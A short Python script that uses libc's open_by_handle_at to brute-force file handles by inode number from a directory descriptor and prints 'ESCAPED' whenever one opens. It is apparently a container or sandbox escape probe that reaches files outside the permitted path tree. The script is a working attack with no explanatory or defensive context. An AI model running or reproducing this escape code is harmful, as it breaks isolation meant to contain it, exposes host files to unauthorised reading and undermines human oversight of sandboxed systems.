"""opens files by handle and by inode, past every path"""

import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)
root = os.open(".", os.O_RDONLY)
for inode in range(1, 64):
    handle = struct.pack("Ii", 8, 1) + struct.pack("II", inode, 0) + bytes(128)
    if libc.open_by_handle_at(root, ctypes.c_char_p(handle), os.O_RDONLY) >= 0:
        print("ESCAPED: inode", inode)
